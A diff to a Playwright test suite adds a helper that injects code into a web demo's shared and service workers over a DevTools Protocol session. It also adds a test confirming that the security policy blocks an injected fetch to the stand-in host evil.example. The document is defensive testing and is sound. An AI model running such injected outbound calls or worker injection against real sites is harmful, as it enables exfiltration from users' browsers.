@@ -44,6 +44,16 @@ const ATTACKS = [
 /** Runs a line as code that is already in the page, so that the page's policy does not block the line itself. */
 const runInPage = (page: Page, line: string) => page.evaluate(line).catch(() => {});
 
+/** Runs a line in the worker of this file. Playwright cannot reach a shared worker. */
+async function runInWorker(page: Page, file: string, expression: string): Promise<void> {
+  const session = await page.context().browser()?.newBrowserCDPSession();
+  const { targetInfos = [] } = (await session?.send('Target.getTargets', { filter: [{}] })) ?? {};
+  const targetId = targetInfos.find(({ url }) => url.endsWith(`/${file}`))?.targetId ?? '';
+  const attached = await session?.send('Target.attachToTarget', { targetId, flatten: false });
+  const message = JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } });
+  await session?.send('Target.sendMessageToTarget', { sessionId: attached?.sessionId ?? '', message });
+}
+
 test('[SIM-2][TOUR-9] a demo in use never violates its security policy', async ({ keep, openPage }) => {
   test.setTimeout(600_000);
   const stick = await keep(startStick());
@@ -87,6 +97,26 @@ test.describe('under attack', () => {
       }
       expect(await attacked.title()).not.toBe('broken in');
       await attacked.close();
+    }
+  });
+
+  test('[SIM-2][TOUR-9] the security policy is enforced on the workers of the demo', async ({
+    keep,
+    openPage,
+    violations,
+  }) => {
+    const stick = await keep(startStick());
+    const room = await openPage('about:blank', tourSeen(stick.origin));
+    await room.goto(`${stick.origin}/`);
+    await expect(room.getByText('Listo sin conexión')).toBeVisible({ timeout: 120_000 });
+    for (const [kind, file] of [
+      ['shared_worker', 'kitchen.js'],
+      ['service_worker', 'service-worker.js'],
+    ] as const) {
+      await runInWorker(room, file, `void fetch('https://evil.example/${kind}').catch(() => {})`);
+      const stopped = () =>
+        violations().some((one) => one.startsWith(kind) && one.endsWith(`: connect-src https://evil.example/${kind}`));
+      await expect.poll(stopped, { message: file }).toBe(true);
     }
   });
 });
